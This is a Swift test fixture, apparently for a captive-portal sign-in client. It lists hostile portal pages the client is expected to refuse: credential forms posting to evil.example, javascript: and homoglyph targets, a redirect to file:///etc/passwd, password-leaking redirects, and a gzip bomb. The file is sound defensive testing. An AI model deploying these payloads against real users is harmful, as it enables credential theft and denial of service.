import ConnectivityCore
import ConnectivitySignIn
import Foundation

extension HostilePortal {
    static let all = forms + bombs + redirects + echoes + others + consents

    private static let forms: [HostilePortal] = [
        .init("A form that posts to another host", "stopped recipe-host", html: login("https://evil.example/login")),
        .init(
            "A form that posts to another host without a scheme",
            "stopped recipe-host",
            html: login("//evil.example/")
        ),
        .init("A form whose target begins with a backslash", "stopped recipe-host", html: login(#"/\evil.example/"#)),
        .init("A form that posts without TLS", "stopped recipe-in-clear", html: login("http://login.hotel.example/")),
        .init("A form with a target in JavaScript", "stopped form-target", html: login("javascript:send()")),
        .init("A form with a target that is data", "stopped form-target", html: login("data:text/html,Welcome")),
        .init("A target with a line break in its scheme", "stopped form-target", html: login("java\nscript:send()")),
        .init(
            "A target with a user name like the host",
            "stopped form-target",
            html: login("https://login.hotel.example@evil.example/")
        ),
        .init("A target with a password", "stopped form-target", html: login("https://a:b@login.hotel.example/")),
        .init("A target on this device", "stopped form-target", html: login("http://127.0.0.1:631/")),
        .init("A target on this device, spelt otherwise", "stopped form-target", html: login("https://0x7f.1/")),
        .init("A host with a dot behind it", "stopped recipe-host", html: login("https://login.hotel.example./")),
        .init(
            "A host below another that looks the same",
            "stopped recipe-host",
            html: login("https://login.hotel.example.evil.example/")
        ),
        .init(
            "A host with a letter of another script",
            "stopped recipe-host",
            html: login("https://lоgin.hotel.example/")
        ),
        .init("Another port of the host", "stopped recipe-host", html: login("https://login.hotel.example:8443/")),
        .init("The host in capitals", "accepted done", isAsked: true, html: login("HTTPS://LOGIN.Hotel.EXAMPLE/x")),
        .init(
            "A base element of another host",
            "stopped form-target",
            html: "<base href='//evil.example/'>" + login("login")
        ),
        .init(
            "A button with its own target",
            "stopped recipe-host",
            html: login("/", "<button formaction=//evil.example/>Go</button>").replacing(
                "<input type=submit>",
                with: ""
            )
        ),
        .init(
            "A form around the form",
            "stopped recipe-host",
            html: "<form method=post action=//evil.example/>" + login()
        ),
        .init(
            "A form before the form that is not closed",
            "stopped recipe-host",
            html: "<form action=//evil.example/ method=post><p" + ">" + login() + "</p>"
        ),
        .init(
            "Fields that belong to another form",
            "stopped recipe-host",
            html:
                "<form id=b action=//evil.example/ method=post></form><form action=/login><input form=b name=user><input form=b name=password type=password></form>"
        ),
        .init("Two forms that match", "stopped form-ambiguous", html: login() + login("//evil.example/")),
        .init(
            "A form that is sent as parts",
            "stopped form-encoding",
            html: login("/\" enctype=\"multipart/form-data")
        ),
        .init("A form that is no request", "stopped form-encoding", html: login(method: "dialog")),
        .init("A form without the fields", "stopped form-missing", html: "<form><input name=user></form>"),
        .init(
            "A page that also asks for the password of another site",
            "stopped form-asks-more",
            html: login("/login", "<input type=password name=bank>")
        ),
        .init(
            "A page that also asks for a telephone number",
            "stopped form-asks-more",
            html: login("/login", "<input type=tel name=phone>")
        ),
        .init(
            "A page that requires a passport's number",
            "stopped form-asks-more",
            html: login("/login", "<input name=passport required>")
        ),
        .init(
            "Hidden fields with the names of other secrets",
            "accepted done",
            isAsked: true,
            html: login(
                "/login",
                "<input type=hidden name=bank><input type=hidden name=x value='{\"secret\": \"bank\"}'><input type=hidden name=y value='$bank'>"
            )
        ),
        .init(
            "A password field that is a checkbox",
            "stopped field-kind",
            html: "<form method=post><input name=user><input type=checkbox name=password></form>"
        ),
        .init(
            "Two password fields with one name",
            "stopped field-repeated",
            html: login("/login", "<input type=hidden name=password>")
        ),
        .init(
            "A list in place of the password",
            "stopped choice-missing",
            html: "<form method=post><input name=user><select name=password><option>a</select></form>"
        ),
        .init(
            "A checkbox that shares data",
            "accepted done",
            isAsked: true,
            unsent: "share",
            html: login("/login", "<input type=checkbox name=share checked> Share my data")
        ),
        .init(
            "A form in a comment, a script, a text area and a title",
            "stopped form-missing",
            html: "<!--\(login())--><script>\(login())</script><textarea>\(login())</textarea><title>\(login())</title>"
        ),
    ]

    private static let bombs: [HostilePortal] = [
        .init(
            "A token of 100 KB",
            "stopped form-too-large",
            html: login("/login", "<input type=hidden name=t value=\(String(repeating: "x", count: 100_000))>")
        ),
        .init(
            "Thousands of fields",
            "stopped form-too-large",
            html: login("/login", String(repeating: "<input type=hidden name=a>", count: 5_000))
        ),
        .init("Thousands of forms", "stopped form-too-large", html: String(repeating: login(), count: 1_000)),
        .init(
            "Thousands of choices",
            "stopped form-too-large",
            html: login("/login", "<select name=a>" + String(repeating: "<option>1", count: 9_000))
        ),
        .init("A page of beginnings of tags", "stopped form-missing", html: String(repeating: "<", count: 200_000)),
        .init("A page that was cut", "stopped page-cut") { _, _, _ in
            var page = ProbeResponse.page(login())
            page.completeness = .cutAtLimit
            return page
        },
        .init("Answers of megabytes", "stopped byte-limit") { request, _, _ in
            .redirect("/\(request.url.path.count)x", ["Server": "x"]).with(body: 1_500_000)
        },
        .init("A page that grows when it is unpacked", "stopped page-cut", "stopped form-missing") { _, _, _ in
            // 1,000,000 letters, compressed by gzip to about one kilobyte.
            ProbeResponse(status: 200, headers: ["Content-Encoding": "gzip"], body: Bomb.gzip)
        },
        .init("A hundred large cookies", "accepted done", isAsked: true) { request, _, _ in
            var page = ProbeResponse.page(request.method == .get ? login() : "Welcome")
            for number in 0..<100 {
                page.headers.fields.append(
                    .init(name: "Set-Cookie", value: "c\(number)=\(String(repeating: "x", count: 1_500))")
                )
            }
            return request.cookie.utf8.count > 17_000 ? .page("the cookies are too large") : page
        },
        .init("A cookie for another host", "accepted done", recipe: again, isAsked: true, unsent: "for-others") {
            request,
            _,
            _ in
            let next = "<form id=next method=post action=https://other.hotel.example/></form>"
            let cookie: HeaderFields = ["Set-Cookie": "a=for-others; Domain=hotel.example"]
            guard request.url.host == "login.hotel.example" else { return .page("Welcome") }
            return .page(request.method == .get ? login() : next, request.method == .get ? [:] : cookie)
        },
    ]

    private static let redirects: [HostilePortal] = [
        .init("A redirect to another host", "stopped recipe-host", redirect: "https://evil.example/start"),
        .init(
            "A redirect to the host without TLS",
            "stopped scheme-changed",
            redirect: "http://login.hotel.example/page"
        ),
        .init("A redirect to JavaScript", "stopped target-unusable", redirect: "javascript:alert(1)"),
        .init(
            "A redirect with a user name",
            "stopped target-unusable",
            redirect: "https://login.hotel.example@evil.example/"
        ),
        .init("A redirect to this device", "stopped target-unusable", redirect: "http://localhost:631/"),
        .init("A redirect to a file", "stopped target-unusable", redirect: "file:///etc/passwd"),
        .init("Redirects without an end", "stopped form-missing") { request, _, _ in .redirect(request.url.path + "x")
        },
        .init(
            "A redirect that has the form sent again",
            "stopped redirect-keeps-body",
            redirectAfter: "/again",
            status: 307
        ),
        .init(
            "A redirect that has the form sent to another host",
            "stopped redirect-keeps-body",
            redirectAfter: "https://evil.example/",
            status: 308
        ),
        .init(
            "A redirect to another host with the password",
            "unclear unexpected-answer",
            redirectAfter: "https://evil.example/?p=PASSWORD"
        ),
        .init(
            "A redirect to a host with the password in its name",
            "unclear unexpected-answer",
            redirectAfter: "https://PASSWORD.evil.example/"
        ),
        .init("A refresh that leads to another host", "stopped recipe-host", recipe: refresh, isAsked: true) {
            request,
            _,
            _ in
            .page(request.method == .get ? login() : "<meta http-equiv=refresh content='0;url=https://evil.example/'>")
        },
        .init("A link that leads to another host", "stopped recipe-host", recipe: link, isAsked: true) {
            request,
            _,
            _ in
            .page(request.method == .get ? login() : "<a href='https://evil.example/continue'>")
        },
        .init(
            "A link that a base element leads to another host",
            "stopped target-unusable",
            recipe: link,
            isAsked: true
        ) { request, _, _ in
            .page(request.method == .get ? login() : "<base href=//evil.example/><a href=continue>")
        },
    ]

    private static let echoes: [HostilePortal] =
        GeneratedSecret.encodings.indices.map { index in
            .init("An echo of the password in encoding \(index)", "unclear unexpected-answer", isAsked: true) {
                request,
                password,
                _ in
                let echo = GeneratedSecret.encodings[index](password)
                guard request.method == .post else { return .page(login()) }
                return ProbeResponse.page(
                    "<p>\(echo)</p>",
                    ["X-Echo": index == 1 ? echo : "", "Set-Cookie": "a=\(Container.percent(password))"]
                )
            }
        }
        + GeneratedSecret.encodings.indices.map { index in
            .init(
                "An echo in encoding \(index) in a form for another permitted host",
                "accepted done",
                recipe: again,
                isAsked: true
            ) { request, password, _ in
                guard request.url.host == "login.hotel.example" else { return .page("Welcome") }
                let echo = Data(GeneratedSecret.encodings[index](password).utf8).map { "&#\($0);" }.joined()
                let form =
                    "<form id=next method=post action=https://other.hotel.example/><input type=hidden name=e value='\(echo)'></form>"
                return .page(request.method == .get ? login() : form)
            }
        }

    private static let others: [HostilePortal] = [
        .init("A token of JSON that is a secret's name in an object", "stopped value-missing", recipe: api) { _, _, _ in
            .page(#"{"token": {"secret": "bank"}}"#)
        },
        .init("A token of JSON that ends its string", "accepted done", recipe: api, isAsked: true) { request, _, _ in
            guard request.method == .post else { return .page(#"{"token": "x\", \"password\": \"y"}"#) }
            return .page(request.json?["token"]?.string == "x\", \"password\": \"y" ? #"{"ok": true}"# : "{}")
        },
        .init("A token of JSON that is too long", "stopped value-missing", recipe: api) { _, _, _ in
            .page(#"{"token": "\#(String(repeating: "x", count: 5_000))"}"#)
        },
        .init("JSON that is nested without an end", "stopped value-missing", recipe: api) { _, _, _ in
            .page(String(repeating: #"{"token":"#, count: 10_000))
        },
        .init("A challenge without TLS", "stopped recipe-in-clear", recipe: chap, page: "http://login.hotel.example/") {
            _,
            _,
            _ in
            .page("c=00ff;" + login())
        },
        .init(
            "A page without TLS whose form goes to the host over TLS",
            "stopped page-unverified",
            page: "http://login.hotel.example/start"
        ) { _, _, _ in
            .page(login("https://login.hotel.example/echo"))
        },
        .init("A text without a challenge", "stopped value-missing", recipe: chap) { _, _, _ in
            .page("c=bank;" + login())
        },
        .init("A challenge without an end", "stopped value-missing", recipe: chap) { _, _, _ in
            .page("c=" + String(repeating: "0", count: 100_000) + login())
        },
        .init("A claim of success that the next round disproves", "accepted done", isAsked: true, html: login()),
        .init("An answer that says nothing", "unclear unexpected-answer", isAsked: true) { request, _, _ in
            .page(request.method == .get ? login() : "")
        },
        .init("A portal on another host than the recipe names", "stopped recipe-host", page: "https://evil.example/") {
            _,
            _,
            _ in
            .page(login("https://login.hotel.example/"))
        },
    ]

    private static func consent(_ fields: String, _ action: String = "/accept") -> String {
        "<form action='\(action)' method=post><input type=hidden name=t value=1>\(fields)<input type=submit name=go></form>"
    }

    private static func refused(_ name: String, _ html: String, _ ending: String = "stopped not-click-through")
        -> HostilePortal
    {
        .init(name, ending, recipe: nil, html: html)
    }

    private static let consents: [HostilePortal] = [
        refused(
            "Click-through: a checkbox that shares data",
            consent("<input type=checkbox name=a> I agree to share my data with partners")
        ),
        refused("Click-through: a checkbox of something else", consent("<input type=checkbox name=a> Remember me")),
        refused(
            "Click-through: two checkboxes",
            consent("<input type=checkbox name=a> I agree <input type=checkbox name=b> I agree")
        ),
        refused("Click-through: a text field", consent("<input name=room>")),
        refused("Click-through: an e-mail address", consent("<input type=email name=e>")),
        refused("Click-through: a password", consent("<input type=password name=p>")),
        refused("Click-through: a choice", consent("<input type=radio name=plan value=pay checked>")),
        refused("Click-through: two buttons", consent("<button>No</button>")),
        refused("Click-through: two forms", consent("") + consent("")),
        refused("Click-through: a field outside the form", consent("") + "<input name=room>"),
        refused("Click-through: another host", consent("", "https://evil.example/"), "stopped form-elsewhere"),
        refused(
            "Click-through: another port",
            consent("", "https://login.hotel.example:8443/"),
            "stopped form-elsewhere"
        ),
        refused("Click-through: without TLS", consent("", "http://login.hotel.example/"), "stopped form-elsewhere"),
        refused("Click-through: JavaScript", consent("", "javascript:go()"), "stopped form-target"),
    ]
}

extension ProbeResponse {
    fileprivate func with(body count: Int) -> ProbeResponse {
        var copy = self
        copy.body = [UInt8](repeating: 0x20, count: count)
        return copy
    }

    fileprivate static func page(_ html: String, _ headers: HeaderFields) -> ProbeResponse {
        page(html, status: 200, headers)
    }

    fileprivate static func redirect(_ target: String, _ headers: HeaderFields) -> ProbeResponse {
        redirect(target, status: 302, headers)
    }
}

private enum Bomb {
    static let gzip: [UInt8] = Array(
        Data(
            base64Encoded: "H4sIAAAAAAACA+3BgQAAAADDILb5Sx3kVQE" + String(repeating: "A", count: 1290)
                + "K8G9Xx6BUBCDwA="
        ) ?? Data()
    )
}
